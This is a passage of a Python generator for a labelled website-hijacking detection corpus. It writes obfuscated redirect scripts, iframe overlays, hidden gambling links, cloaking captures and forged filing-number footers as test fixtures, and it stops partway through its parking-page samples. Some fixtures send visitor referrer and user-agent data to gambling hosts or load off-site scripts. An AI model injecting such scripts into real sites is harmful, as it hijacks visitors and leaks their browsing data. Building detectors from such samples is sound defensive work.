#!/usr/bin/env python3
"""Generates the labelled detection corpus (crates/beian-detect/corpus) and its manifest.

Run from anywhere: `python3 crates/beian-detect/corpus/tools/gen.py`. The output is committed;
rerunning rewrites it identically (no randomness, no clock).

Labels (see corpus/README.md): `technique` is a signal.rs Technique name or "negative";
`expected` is the verdict a correct detector gives (clean | suspicious | hijacked).
"""

import json
import shutil
import sys
import zlib
from pathlib import Path

sys.dont_write_bytecode = True  # keep the committed corpus free of __pycache__

from payloads import (FRAUD_TITLES, GAMBLING_ANCHORS, GAMBLING_DOMAINS, GAMBLING_TITLES,
                      PORN_TITLES, char_codes, entities_dec, entities_hex, hex_escape, overlay_write,
                      pack, referrer_redirect, sojson_redirect, unicode_escape)
from sites import SITES, footer_html, page

ROOT = Path(__file__).resolve().parent.parent
CASES = []


def q(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def url_of(site, path="/"):
    return f"https://{site.host}{path}"


def add_page(technique, name, expected, site, html, description, *, path="/", persona=None,
             charset=None, expect_footer=True):
    rel = f"{technique}/{name}.html"
    target = ROOT / rel
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(html.encode(charset or "utf-8", errors="xmlcharrefreplace"))
    case = {"path": rel, "technique": technique, "expected": expected, "owner_domain": site.owner,
            "url": url_of(site, path), "description": description}
    if persona:
        case["persona"] = persona
    if charset:
        case["charset"] = charset
    if expect_footer:
        case["expected_icp"] = site.icp
        case["expected_psb"] = site.psb
    CASES.append(case)


def add_site(technique, name, expected, site, description, captures, *, random_paths=(),
             baseline=None, dns=None, ns_unregistered=(), expect_footer=True, server=None):
    """captures: (persona, html, status, final_url, hops); random_paths: (persona, path, html, status)."""
    rel = f"{technique}/{name}"
    folder = ROOT / rel
    folder.mkdir(parents=True, exist_ok=True)
    lines = [f"host = {q(site.host)}"]
    if ns_unregistered:
        lines.append(f"ns_domains_unregistered = {json.dumps(list(ns_unregistered))}")
    if baseline:
        lines.append("\n[baseline]")
        for key, value in baseline.items():
            lines.append(f"{key} = {q(value)}")
    if dns:
        lines.append("\n[dns]")
        for key, value in dns.items():
            lines.append(f"{key} = {json.dumps(value, ensure_ascii=False)}")
    for persona, html, status, final_url, hops in captures:
        file = f"{persona}.html"
        (folder / file).write_text(html, encoding="utf-8")
        lines += ["\n[[capture]]", f"file = {q(file)}", f"persona = {q(persona)}",
                  f"requested_url = {q(url_of(site))}", f"final_url = {q(final_url or url_of(site))}",
                  f"status = {status}"]
        if hops:
            lines.append(f"hops = {json.dumps(hops)}")
        if server:
            lines.append(f"server = {q(server)}")
    for index, (persona, path, html, status) in enumerate(random_paths, start=1):
        file = f"random-{index}.html"
        (folder / file).write_text(html, encoding="utf-8")
        lines += ["\n[[random_path]]", f"file = {q(file)}", f"persona = {q(persona)}",
                  f"requested_url = {q(url_of(site, path))}", f"final_url = {q(url_of(site, path))}",
                  f"status = {status}"]
    (folder / "capture.toml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    case = {"path": rel, "technique": technique, "expected": expected, "owner_domain": site.owner,
            "url": url_of(site), "description": description}
    if expect_footer:
        case["expected_icp"] = site.icp
        case["expected_psb"] = site.psb
    CASES.append(case)


def site(i):
    return SITES[i % len(SITES)]


# ---------------------------------------------------------------- hostile_content (page)

def hostile_content():
    t = "hostile_content"
    for i, title in enumerate(GAMBLING_TITLES):
        s = site(i)
        add_page(t, f"title-gambling-{i + 1:02d}", "hijacked", s,
                 page(s, title=title, keywords=title.replace("_", ",").replace("-", ",")),
                 f"TDK 篡改：标题与关键词换成博彩词（{title[:8]}…），正文仍是原站 / gambling title and keywords, original body")
    for i, title in enumerate(PORN_TITLES):
        s = site(i + 3)
        add_page(t, f"title-porn-{i + 1:02d}", "hijacked", s, page(s, title=title, description=title),
                 "标题与描述换成色情词 / porn title and description")
    for i, title in enumerate(FRAUD_TITLES):
        s = site(i + 5)
        add_page(t, f"title-fraud-{i + 1:02d}", "hijacked", s, page(s, title=title, keywords=title),
                 "标题换成诈骗/违法服务词 / fraud services in title and keywords")
    s = site(1)
    add_page(t, "meta-description-only", "hijacked", s,
             page(s, description="澳门新葡京娱乐场官网，提供百家乐、真人视讯、体育投注、六合彩，注册即送888元彩金"),
             "只有 meta description 被换成博彩推广 / only the meta description carries gambling copy")
    s = site(2)
    add_page(t, "body-injected-block", "hijacked", s,
             page(s, main_extra='<div class="tj"><h3>热门推荐</h3><p>' + "".join(
                 f'<a href="https://{GAMBLING_DOMAINS[k]}/?code=8{k}">{GAMBLING_ANCHORS[k]}</a> '
                 for k in range(10)) + "</p><p>百家乐必胜技巧 | 网上赌场排名 | 时时彩计划群 | 真人视讯开户送彩金</p></div>"),
             "正文末尾插入可见的博彩推荐链接块 / visible block of gambling links appended to the body")
    s = site(4)
    add_page(t, "title-hex-entities", "hijacked", s,
             page(s, title=entities_hex("澳门葡京赌场官网_百家乐真人娱乐")),
             "标题用十六进制 HTML 实体编码博彩词 / title as hex HTML entities (&#x6FB3;…)")
    s = site(6)
    add_page(t, "title-decimal-entities", "hijacked", s,
             page(s, title=entities_dec("威尼斯人娱乐城_线上赌场_体育投注"), keywords=entities_dec("威尼斯人,网上赌场,体育投注")),
             "标题与关键词用十进制实体 / decimal entities in title and keywords")
    s = site(7)
    add_page(t, "footer-copyright-entities", "hijacked", s,
             page(s, title=entities_hex("澳门新葡京") + "_" + entities_hex("真人视讯"),
                  footer=footer_html(s, extra="<p>Copyright©" + entities_hex("澳门葡京赌场") + "</p>")),
             "博彩模板：页脚版权为实体编码的“澳门葡京赌场” / gambling template, entity-encoded footer copyright")
    s = site(8)
    add_page(t, "title-fullwidth", "hijacked", s,
             page(s, title="ｂｅｔ３６５体育在线投注＿澳门新葡京＿百家乐"),
             "全角字母数字绕过：ｂｅｔ３６５ / full-width letters and digits")
    s = site(9)
    add_page(t, "title-zero-width", "hijacked", s,
             page(s, title="澳\u200b门\u200b新\u200b葡\u200b京\u200c娱\u200d乐\u2060城_百\u200b家\u200b乐"),
             "零宽字符插入博彩词 / zero-width characters inside the gambling words")
    s = site(10)
    add_page(t, "title-spaced", "hijacked", s,
             page(s, title="博 彩 网 站 推 荐 _ 真 人 百 家 乐 _ 网 上 赌 场"),
             "逐字加空格 / a space between every character")
    s = site(11)
    add_page(t, "title-traditional", "hijacked", s,
             page(s, title="澳門新葡京娛樂場_真人視訊百家樂_線上賭場", keywords="澳門博彩,百家樂,真人視訊"),
             "繁体博彩词 / traditional characters")
    s = site(0)
    add_page(t, "title-numerals", "hijacked", s,
             page(s, title="6合彩开奖记录_香港6合彩资料_⑥合彩特码"),
             "汉字数字换成阿拉伯数字：6合彩 = 六合彩 / numeral swap")
    s = site(3)
    add_page(t, "title-homophone", "hijacked", s,
             page(s, title="菠菜网站大全_正规菠菜平台推荐_菠菜担保网", keywords="菠菜,菠菜导航,菠菜担保"),
             "谐音替代：菠菜 = 博彩 / homophone 菠菜 for 博彩")
    s = site(5)
    add_page(t, "title-set-by-js-unicode", "hijacked", s,
             page(s, head_extra=f'<script>document.title="{unicode_escape("澳门银河娱乐官网_真人百家乐_体育投注")}";</script>'),
             "脚本用 \\u 转义在加载后改写 document.title / title rewritten by script with \\u escapes")
    s = site(9)
    add_page(t, "title-set-by-js-concat", "hijacked", s,
             page(s, body_extra="<script>window.onload=function(){document.title = '"
                  + unicode_escape("金沙娱乐城") + "' + \"_\" + '" + unicode_escape("滚球投注_真人视讯") + "';};</script>"),
             "加载后用拼接的 \\u 转义字面量改写标题 / title rewritten after load from concatenated escaped literals")
    s = site(1)
    add_page(t, "county-list-injection", "hijacked", s,
             page(s, main_extra='<div class="zq"><p>杂多县|富川|舒兰市|临洮|桦甸市|澄迈县|镇康|永胜县|</p><p>'
                  '百家乐怎么玩才能赢 真人百家乐网站 百家乐技巧 网上百家乐 百家乐开户 百家乐官网 皇冠百家乐</p></div>'),
             "站群注入：县名列表加博彩长尾词 / 站群 county list plus gambling long-tail words")


# ---------------------------------------------------------------- js_redirect (page)

def js_redirect():
    t = "js_redirect"

    def inject(i, name, script, description, where="head", raw=False):
        s = site(i)
        tag = script if raw else f'<script type="text/javascript">\n{script}\n</script>'
        html = page(s, head_extra=tag) if where == "head" else page(s, body_extra=tag)
        add_page(t, name, "hijacked", s, html, description)

    for k in range(3):
        target = f"https://www.{GAMBLING_DOMAINS[k]}/?AgentID=157{k}4"
        inject(k, f"referrer-plain-{k + 1:02d}", referrer_redirect(target),
               "搜索引擎来路正则 + location.href 跳到站外博彩域名 / referrer regex redirect to an off-site gambling domain",
               where="head" if k % 2 == 0 else "body")
    inject(3, "referrer-bare-ip", referrer_redirect("http://222.186.129.41/a/1.html"),
           "来路跳转到裸 IP 落地页 / referrer redirect to a bare-IP landing page")
    inject(4, "referrer-hex-escaped",
           f'var _t="{hex_escape("https://" + GAMBLING_DOMAINS[3] + "/?c=s002")}";\n'
           f'if(/baidu|sogou|so\\.com|sm\\.cn|360/i.test(document["{hex_escape("referrer")}"]))'
           f'{{window["{hex_escape("location")}"]["{hex_escape("href")}"]=_t;}}',
           "目标网址与属性名全部 \\x 转义 / target and property names hex-escaped")
    inject(5, "referrer-unicode-escaped",
           f'var u="{unicode_escape("https://" + GAMBLING_DOMAINS[4] + "/")}";var r=document.referrer;'
           'if(r.indexOf("baidu")>-1||r.indexOf("sogou")>-1||r.indexOf("so.com")>-1){top.location.href=u;}',
           "\\u 转义的目标，top.location 跳转 / \\u-escaped target via top.location")
    inject(6, "packer-referrer", pack(referrer_redirect(f"https://{GAMBLING_DOMAINS[5]}/?id=8866")),
           "Dean Edwards packer 打包的来路跳转 / packed (eval(function(p,a,c,k,e,d)) referrer redirect")
    inject(7, "packer-location-replace",
           pack(f'var ua=navigator.userAgent.toLowerCase();if(/baiduboxapp|baidu/.test(ua)){{location.replace("https://{GAMBLING_DOMAINS[6]}/m/");}}'),
           "packer 打包：百度 App UA 时 location.replace / packed mobile Baidu-app redirect")
    inject(8, "fromcharcode-target",
           f'var d=String.fromCharCode({char_codes("https://" + GAMBLING_DOMAINS[7] + "/")});'
           'if(/baidu|sogou|360|so\\.com/i.test(document.referrer)){window.location=d;}',
           "String.fromCharCode 拼出目标 / fromCharCode-built target")
    inject(9, "fromcharcode-eval",
           f'eval(String.fromCharCode({char_codes(referrer_redirect("https://" + GAMBLING_DOMAINS[8] + "/"))}));',
           "eval(String.fromCharCode(...)) 整段隐藏 / whole redirect as eval(fromCharCode)")
    inject(10, "sojson-array", sojson_redirect(f"http://{GAMBLING_DOMAINS[9]}/?AgentID=15784"),
           "sojson 混淆：__encode='sojson.com' 与 _0x 字符串数组 / sojson-style obfuscation")
    inject(11, "sojson-bare-ip", sojson_redirect("http://222.186.129.41/a/1.html"),
           "sojson 混淆，落地页为裸 IP / sojson-style, bare-IP landing page")
    inject(0, "meta-refresh-offsite",
           f'<meta http-equiv="refresh" content="0;url=https://www.{GAMBLING_DOMAINS[0]}/">', 
           "meta refresh 立即跳到站外博彩 / meta refresh to a gambling site", raw=True)
    inject(1, "mobile-ua-redirect",
           'if(/Android|webOS|iPhone|iPod|BlackBerry|baiduboxapp/i.test(navigator.userAgent)){'
           f'window.location.href="https://m.{GAMBLING_DOMAINS[1]}/?from=wap";}}',
           "只跳移动端 UA 到站外博彩 / mobile-only redirect to an off-site gambling domain")
    inject(2, "document-write-script",
           f'document.write(\'<script src="https://js.{GAMBLING_DOMAINS[2]}/tj.js"><\\/script>\');',
           "document.write 写入站外博彩域名脚本 / document.write of an off-site gambling script", where="body")
    inject(3, "external-script-gambling-host",
           f'<script src="https://cdn.{GAMBLING_DOMAINS[3]}/jquery.min.js"></script>',
           "加载博彩域名上的伪 jQuery / fake jQuery from a gambling host", raw=True, where="body")
    inject(4, "back-button-hijack",
           'if(document.referrer.indexOf("baidu.com")>-1){history.pushState(null,null,location.href);'
           f'window.addEventListener("popstate",function(){{location.href="https://{GAMBLING_DOMAINS[4]}/s?wd=";}});}}',
           "后退劫持：pushState + popstate + 来路判断 / back-button hijack")
    inject(5, "unescape-script",
           "document.write(unescape('%3Cscript%20src%3D%22https%3A//" + GAMBLING_DOMAINS[5] + "/a.js%22%3E%3C/script%3E'));",
           "unescape 写入外部脚本 / unescape('%3Cscript…') writes an off-site script")
    inject(6, "atob-eval",
           "eval(atob('" + __import__("base64").b64encode(referrer_redirect("https://" + GAMBLING_DOMAINS[6] + "/").encode()).decode() + "'));",
           "eval(atob(...)) 包裹的来路跳转 / base64 referrer redirect")
    inject(7, "window-open-referrer",
           f'if(/baidu|sogou|360|sm\\.cn/i.test(document.referrer)){{window.open("https://{GAMBLING_DOMAINS[7]}/","_self");}}',
           "window.open 以 _self 打开站外博彩 / window.open in _self")
    inject(8, "remote-decision-post",
           f'var x=new XMLHttpRequest();x.open("POST","https://api.{GAMBLING_DOMAINS[8]}/tj",true);'
           'x.onload=function(){document.write(x.responseText);document.title="澳门新葡京";};'
           'x.send("from="+encodeURIComponent(location.host)+"&originUrl="+encodeURIComponent(location.href)+"&referer="+encodeURIComponent(document.referrer)+"&userAgent="+encodeURIComponent(navigator.userAgent));',
           "远程决策脚本：上报来路与 UA，写回响应并改标题 / remote decision script (PACTOR shape)")
    s = site(9)
    add_page(t, "impersonated-library-bootstrap", "hijacked", s,
             page(s, head_extra='<script src="/static/js/bootstrap.min.js"></script>',
                  body_extra=f'<script src="https://static.{GAMBLING_DOMAINS[8]}/js/bootstrap.min.js?v=3"></script>'),
             "本站已有 bootstrap，又从陌生站外主机加载同名脚本 / a second bootstrap.min.js from a foreign host")
    s = site(10)
    add_page(t, "external-script-brand-host", "hijacked", s,
             page(s, body_extra='<script src="https://js.bet365-tj.vip/common.js"></script>'),
             "外部脚本主机名含博彩品牌（bet365）/ external script from a host named after a gambling brand")


# ---------------------------------------------------------------- iframe_overlay (page)

def iframe_overlay():
    t = "iframe_overlay"
    variants = [
        ("write-fixed-max-z", overlay_write(f"https://{GAMBLING_DOMAINS[0]}/"), "document.write 全屏 fixed 容器，z-index 2147483647"),
        ("write-absolute-999999999", overlay_write(f"https://{GAMBLING_DOMAINS[1]}/", "999999999", "absolute"), "absolute 全屏容器，z-index 999999999"),
        ("packed-overlay", pack(overlay_write(f"https://{GAMBLING_DOMAINS[2]}/").replace("\n", "")), "packer 打包的全屏 iframe 覆盖"),
        ("referrer-overlay", f'if(/baidu|sogou|360|so\\.com/i.test(document.referrer)){{{overlay_write("https://" + GAMBLING_DOMAINS[3] + "/")}}}', "仅搜索来路时覆盖 / overlay only for search visitors"),
        ("create-element-iframe",
         f'var f=document.createElement("iframe");f.src="https://{GAMBLING_DOMAINS[4]}/";'
         'f.style.cssText="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;border:0";'
         'document.documentElement.style.overflow="hidden";document.body.appendChild(f);',
         "createElement 插入全屏 iframe / createElement full-screen iframe"),
        ("mobile-baidu-overlay",
         f'if(/baiduboxapp|baidu/i.test(navigator.userAgent)&&/Android|iPhone/i.test(navigator.userAgent)){{{overlay_write("https://m." + GAMBLING_DOMAINS[5] + "/")}}}',
         "百度 App 移动端才覆盖 / overlay only in the Baidu app on mobile"),
        ("referrer-iframe-800", f'if(/baidu|sogou/i.test(document.referrer)){{document.write(\'<iframe src="https://{GAMBLING_DOMAINS[6]}/" width="100%" height="800" frameborder="0"></iframe>\');document.body.style.overflow="hidden";}}',
         "来路正则后写入 100%×800 iframe / referrer then a 100% x 800 iframe"),
    ]
    for i, (name, script, description) in enumerate(variants):
        s = site(i + 2)
        add_page(t, name, "hijacked", s, page(s, body_extra=f"<script>\n{script}\n</script>"), description)
    static = [
        ("static-div-fixed", f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647"><iframe src="https://{GAMBLING_DOMAINS[7]}/" width="100%" height="100%" frameborder="0"></iframe></div>', "静态 HTML 全屏 iframe 容器"),
        ("static-iframe-styled", f'<iframe src="https://www.{GAMBLING_DOMAINS[8]}/index.html" style="position:absolute;top:0px;left:0px;width:100%;height:100%;z-index:99999999;border:none" scrolling="auto"></iframe><style>body{{overflow:hidden}}</style>', "iframe 自身全屏绝对定位"),
        ("static-class-overlay", f'<style>.mk-ov{{position:fixed;top:0;right:0;bottom:0;left:0;z-index:2147483647;background:#000}}html,body{{overflow:hidden!important}}</style><div class="mk-ov"><iframe src="https://{GAMBLING_DOMAINS[9]}/" style="width:100%;height:100%;border:0"></iframe></div>', "样式表类名实现的覆盖层 / overlay through a stylesheet class"),
    ]
    for i, (name, markup, description) in enumerate(static):
        s = site(i + 9)
        add_page(t, name, "hijacked", s, page(s, body_start=markup), description)


# ---------------------------------------------------------------- hidden_links (page)

def hidden_links():
    t = "hidden_links"

    def links(k, n=8):
        return "".join(
            f'<a href="https://www.{GAMBLING_DOMAINS[(k + j) % len(GAMBLING_DOMAINS)]}/" target="_blank">'
            f"{GAMBLING_ANCHORS[(k + j) % len(GAMBLING_ANCHORS)]}</a>\n" for j in range(n))

    wrappers = [
        ("display-none", '<div style="display:none">{}</div>'),
        ("visibility-hidden", '<div style="visibility:hidden;height:1px">{}</div>'),
        ("visibility-collapse", '<table><tr style="visibility:collapse"><td>{}</td></tr></table>'),
        ("opacity-zero", '<div style="opacity:0;position:absolute">{}</div>'),
        ("clip-rect", '<div style="position:absolute;clip:rect(0,0,0,0)">{}</div>'),
        ("clip-path", '<div style="clip-path:circle(0);position:absolute">{}</div>'),
        ("negative-z-index", '<div style="position:absolute;z-index:-9999;top:0">{}</div>'),
        ("height-zero-overflow", '<div style="height:0;overflow:hidden">{}</div>'),
        ("text-indent", '<div style="text-indent:-9999px;overflow:hidden;width:1px">{}</div>'),
        ("translate-offscreen", '<div style="transform:translateX(-9999px);position:absolute">{}</div>'),
        ("left-offscreen", '<div style="position:absolute;left:-9999px;top:-9999px">{}</div>'),
        ("font-size-zero", '<div style="font-size:0;line-height:0">{}</div>'),
        ("marquee-1px", '<marquee height="1" width="1" scrollamount="3000" scrolldelay="20000">{}</marquee>'),
        ("background-colour-text", '<div style="color:#ffffff;background:#ffffff;font-size:1px">{}</div>'),
        ("style-class-hidden", '<style>.yq_lk{{display:none}}</style><div class="yq_lk">{}</div>'),
    ]
    for i, (name, wrapper) in enumerate(wrappers):
        s = site(i)
        markup = wrapper.format(links(i))
        where = "main_extra" if i % 3 else "body_extra"
        html = page(s, **{where: markup})
        add_page(t, name, "hijacked", s, html, f"博彩暗链，隐藏方式 {name} / gambling links hidden by {name}")
    s = site(3)
    add_page(t, "document-write-anchors", "hijacked", s,
             page(s, body_extra="<script>document.write('<div style=\"display:none\">" +
                  links(4, 6).replace("\n", "").replace("'", "\\'") + "</div>');</script>"),
             "document.write 写出隐藏博彩链接 / hidden anchors written by document.write")
    s = site(8)
    add_page(t, "same-colour-class-rgb", "hijacked", s,
             page(s, main_extra='<style>.ft-x{color:rgb(242, 242, 242);background-color:#f2f2f2}</style><div class="ft-x">'
                  + links(6, 6) + '</div>'),
             "样式表类名：文字与背景同色（rgb 与 #hex 写法不同）/ text in the background colour through a class, rgb() vs #hex")
    s = site(10)
    written = links(9, 5).replace("\n", "").replace("'", "\\'")
    add_page(t, "document-write-concat", "hijacked", s,
             page(s, body_extra="<script>document.writeln('<div style=\"position:absolute;' + 'left:-9999px\">' + '"
                  + written + "' + '</div>');</script>"),
             "document.writeln 拼接字面量写出屏幕外的博彩链接 / off-screen gambling links written from concatenated literals")
    s = site(5)
    add_page(t, "zero-size-iframe", "hijacked", s,
             page(s, body_extra=f'<iframe src="https://www.{GAMBLING_DOMAINS[2]}/links.html" width="0" height="0" frameborder="0" style="display:none"></iframe>'),
             "0×0 隐藏 iframe 指向博彩域名 / hidden 0x0 iframe")
    s = site(6)
    farm = "".join(f'<a href="http://www.seo-lk{j:02d}.com/">{w}</a> '
                   for j, w in enumerate(["装修公司", "月子中心", "搬家公司", "二手车", "驾校报名", "网站建设",
                                          "空气净化器", "翻译公司", "起重机", "不锈钢水箱", "轴承", "阀门",
                                          "钢结构", "培训学校", "代理记账", "商标注册", "雕塑", "酒店用品",
                                          "包装机械", "家政服务", "婚纱摄影", "植发", "牙科", "留学中介"]))
    add_page(t, "link-farm-neutral-words", "suspicious", s,
             page(s, main_extra=f'<div style="position:absolute;left:-5000px">{farm}</div>'),
             "24 个站外隐藏链接，锚文本是普通词（卖链）/ hidden off-site link farm with neutral anchor text")


# ---------------------------------------------------------------- footer (page)

def footer_cases():
    t = "footer"
    cases = [
        ("missing-both", dict(omit=True), "页脚没有 ICP 与公安备案号 / no numbers in the footer"),
        ("missing-psb", dict(psb=""), "缺公安联网备案号 / the PSB number is missing"),
        ("icp-unlinked", dict(icp_href=None), "ICP 备案号未链接到 beian.miit.gov.cn / ICP number not linked"),
        ("icp-wrong-link", dict(icp_href="http://www.miitbeian.gov.cn.icp-query.cc/"), "ICP 链接到仿冒查询站 / ICP linked to a look-alike"),
        ("psb-code-mismatch", "psb_mismatch", "公安备案链接 code= 与显示号码不一致 / PSB link code differs from the shown number"),
        ("psb-linked-to-miit", "psb_miit", "公安备案号链到 beian.miit.gov.cn / PSB number linked to MIIT"),
        ("icp-other-site", dict(icp="京ICP备09041801号-12"), "显示的 ICP 号不是本站的 / someone else's ICP number"),
        ("icp-placeholder", dict(icp="京ICP备12345678号-1"), "占位号 12345678 / placeholder ICP number"),
        ("icp-zeros", dict(icp="粤ICP备00000000号"), "全零占位号 / all-zero ICP number"),
        ("icp-bad-prefix", dict(icp="中ICP备2023012345号-1"), "非法省份前缀 / invalid province prefix"),
        ("icp-wrong-digits", dict(icp="浙ICP备202103187号-1"), "位数错误（9 位）/ 9 digits"),
        ("psb-province-mismatch", dict(psb="沪公网安备11011502002400号"), "沪 前缀配北京代码 / 沪 with a Beijing division code"),
        ("psb-short", dict(psb="甘公网安备235487154313号"), "12 位伪造公安备案号 / a 12-digit fake PSB number"),
        ("icp-licence-mislabel", "licence", "备案号写成 ICP 证且号码不符 / filing number mislabelled as a licence"),
    ]
    for i, (name, tweak, description) in enumerate(cases):
        s = site(i)
        if tweak == "psb_mismatch":
            digits = "".join(ch for ch in s.psb if ch.isdigit())
            wrong = digits[:8] + "019977"
            foot = footer_html(s, psb_href=f"https://beian.mps.gov.cn/#/query/webSearch?code={wrong}")
        elif tweak == "psb_miit":
            foot = footer_html(s, psb_href="https://beian.miit.gov.cn/")
        elif tweak == "licence":
            foot = footer_html(s, icp=s.icp.replace("ICP备", "ICP证").split("号")[0][:-1] + "7号")
        else:
            foot = footer_html(s, **tweak)
        add_page(t, name, "suspicious", s, page(s, footer=foot), description)


# ---------------------------------------------------------------- site-level positives

def captures_normal(s, **kw):
    html = page(s, **kw)
    return [("desktop_browser", html, 200, None, []), ("baiduspider", html, 200, None, []),
            ("desktop_browser+baidu_referer", html, 200, None, [])]


def not_found(s, path):
    return f"""<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>404 页面不存在 - {s.name}</title></head>
<body><div class="err"><h1>404</h1><p>抱歉，您访问的页面 {path} 不存在或已被删除。</p><p><a href="/">返回首页</a></p></div></body></html>
"""


def parasite_page(s, path, title, words):
    items = "".join(f'<li><a href="/{zlib.crc32((path + w).encode()) % 90000 + 10000}.html">{w}</a></li>' for w in words)
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title>
<meta name="keywords" content="{','.join(words[:6])}"><meta name="description" content="{title}，{''.join(words[:4])}">
</head><body><div class="wz"><h1>{title}</h1><p>{'，'.join(words)}。{title}。</p><ul>{items}</ul>
<p>杂多县|富川|舒兰市|临洮|桦甸市|澄迈县|</p></div>
<script src="https://js.{GAMBLING_DOMAINS[3]}/tj.js"></script></body></html>
"""


def parasite():
    t = "parasite_pages"
    paths = ["/a8f3kq2z.html", "/news/x91m7cw0.html", "/?id=58213977"]
    for i in range(8):
        s = site(i)
        persona = "baiduspider" if i % 2 == 0 else "desktop_browser"
        words = GAMBLING_ANCHORS[i:] + GAMBLING_ANCHORS[:i]
        randoms = [(persona, p, parasite_page(s, p, f"{words[j]}_{words[j + 3]}官网_{words[j + 5]}", words), 200)
                   for j, p in enumerate(paths[: 2 + i % 2])]
        if i % 4 == 3:
            randoms.append(("desktop_browser", "/zzq7y2k1.html", not_found(s, "/zzq7y2k1.html"), 404))
        add_site(t, f"random-paths-{i + 1:02d}", "hijacked", s,
                 f"泛目录：随机路径返回 200 且标题各不相同、满是博彩词（{persona}）/ random paths answer 200 with stuffed gambling titles",
                 captures_normal(s), random_paths=randoms)
    s = site(9)
    porn_words = ["午夜福利", "国产精品", "成人影院", "无码高清", "激情小说", "亚洲色图", "AV在线", "一本道"]
    add_site(t, "random-paths-porn", "hijacked", s, "泛目录，色情词 / parasite pages with porn terms",
             captures_normal(s),
             random_paths=[("baiduspider", p, parasite_page(s, p, f"{porn_words[j]}_{porn_words[j + 2]}在线观看", porn_words), 200)
                           for j, p in enumerate(paths)])
    s = site(10)
    fraud_words = ["代开发票", "发票代开", "办证", "毕业证办理", "刷单兼职", "信用卡套现", "银行卡出售", "高仿名表"]
    add_site(t, "random-paths-fraud", "hijacked", s, "泛目录，代开发票/办证词 / parasite pages with fraud terms",
             captures_normal(s),
             random_paths=[("baiduspider", p, parasite_page(s, p, f"{fraud_words[j]}_{fraud_words[j + 1]}-正规", fraud_words), 200)
                           for j, p in enumerate(paths[:2])])


def cloaking():
    t = "cloaking"
    for i in range(6):
        s = site(i + 1)
        normal = page(s)
        spider = page(s, title=GAMBLING_TITLES[i], keywords=GAMBLING_TITLES[i].replace("_", ","),
                      description=f"{GAMBLING_TITLES[i]}，注册送彩金，百家乐、真人视讯、体育投注一站式平台",
                      head_extra='<meta name="robots" content="noarchive">' if i % 2 == 0 else "")
        spider_persona = ["baiduspider", "sogou_spider", "spider_360"][i % 3]
        add_site(t, f"spider-tdk-{i + 1:02d}", "hijacked", s,
                 f"快照劫持：{spider_persona} 看到博彩 TDK，浏览器看到原站 / spider sees gambling TDK, browser the real site",
                 [("desktop_browser", normal, 200, None, []), (spider_persona, spider, 200, None, []),
                  ("desktop_browser+baidu_referer", normal, 200, None, [])])
    for i in range(4):
        s = site(i + 6)
        normal = page(s)
        landing_host = f"www.{GAMBLING_DOMAINS[i + 4]}"
        landing = page(s, title=GAMBLING_TITLES[(i + 5) % 10], main=f"<h1>{GAMBLING_TITLES[(i + 5) % 10]}</h1>"
                       "<p>真人视讯 百家乐 体育投注 电子游艺 注册送888</p>", footer="<footer>Copyright© 2026</footer>")
        final = f"https://{landing_host}/?AgentID=1{i}784"
        add_site(t, f"referer-redirect-{i + 1:02d}", "hijacked", s,
                 "来路劫持：带百度 Referer 时服务器 302 到站外博彩 / server 302 to a gambling site only for Baidu-referred visitors",
                 [("desktop_browser", normal, 200, None, []), ("baiduspider", normal, 200, None, []),
                  ("desktop_browser+baidu_referer", landing, 200, final, [url_of(s), final])])
    s = site(11)
    add_site(t, "mobile-wechat-redirect", "hijacked", s,
             "只对移动/微信 UA 302 到站外博彩 / mobile (WeChat) visitors redirected off-site",
             [("desktop_browser", page(s), 200, None, []), ("baiduspider", page(s), 200, None, []),
              ("mobile_wechat", page(s, title=GAMBLING_TITLES[8], main="<h1>乐鱼体育</h1><p>体育投注 真人视讯</p>"), 200,
               f"https://m.{GAMBLING_DOMAINS[7]}/", [url_of(s), f"https://m.{GAMBLING_DOMAINS[7]}/"])])
    s = site(0)
    add_site(t, "spider-hidden-links-only", "hijacked", s,
             "只对蜘蛛输出一串博彩链接 / links echoed only to spiders",
             [("desktop_browser", page(s), 200, None, []),
              ("baiduspider", page(s, body_extra="<p>" + "".join(
                  f'<a href="https://{d}/">{w}</a> ' for d, w in zip(GAMBLING_DOMAINS, GAMBLING_ANCHORS)) + "</p>"), 200, None, []),
              ("desktop_browser+baidu_referer", page(s), 200, None, [])])


def title_replacement():
    t = "title_replacement"
    for i in range(10):
        s = site(i)
        baseline = {"title": f"{s.name} - 首页", "keywords": f"{s.name},{','.join(s.nav[1:4])}",
                    "description": s.about[:60]}
        if i < 5:
            title = GAMBLING_TITLES[(i + 2) % 10]
            html = page(s, title=title)
            description = "标题换成博彩词，关键词与描述未变 / title replaced with gambling terms"
        elif i < 7:
            title = PORN_TITLES[i - 5]
            html = page(s, title=title, keywords=title)
            description = "标题与关键词换成色情词 / title and keywords replaced with porn terms"
        elif i < 9:
            kw = "澳门新葡京,百家乐,真人视讯,体育投注,威尼斯人"
            html = page(s, keywords=kw, description="澳门新葡京官网，真人视讯百家乐，注册送彩金")
            description = "只换了 meta 关键词与描述 / only keywords and description replaced"
        else:
            html = page(s, title=f"{s.name}_{entities_hex('太阳城娱乐')}_{entities_hex('棋牌捕鱼')}")
            description = "标题后追加实体编码的博彩词 / entity-encoded gambling words appended to the title"
        add_site(t, f"baseline-diff-{i + 1:02d}", "hijacked", s, description,
                 [("desktop_browser", html, 200, None, []), ("baiduspider", html, 200, None, [])],
                 baseline=baseline)


PARKING_PAGES = {
    "godaddy": ("GoDaddy 停放页", """<!DOCTYPE html><html><head><meta charset="utf-8"><title>{host}</title>
<script>window.LANDER_SYSTEM="PW";</script>
<link rel="stylesheet" href="https://img1.wsimg.com/parking-lander/static/css/main.css">
</head><body><div id="root"></div>
<script>window._trfd=window._trfd||[];window._trfd.push({{"ap":"parking","tccl.baseHost":"secureserver.net"}});</script>
<script src="https://img1.wsimg.com/parking-lander/static/js/main.js"></script>
<script src="https://www.google.com/adsense/domains/caf.js"></script>
<p>{host} — This domain may be for sale! Buy this domain.</p></body></html>
"""),
    "sedo": ("Sedo 停放页", """<!DOCTYPE html><html><head><meta charset="utf-8"><title>{host} - This website is for sale!</title>
<script>var sedoParkingUrl="https://sedo.com/search/details/?domain={host}&partnerid=324561";</script>
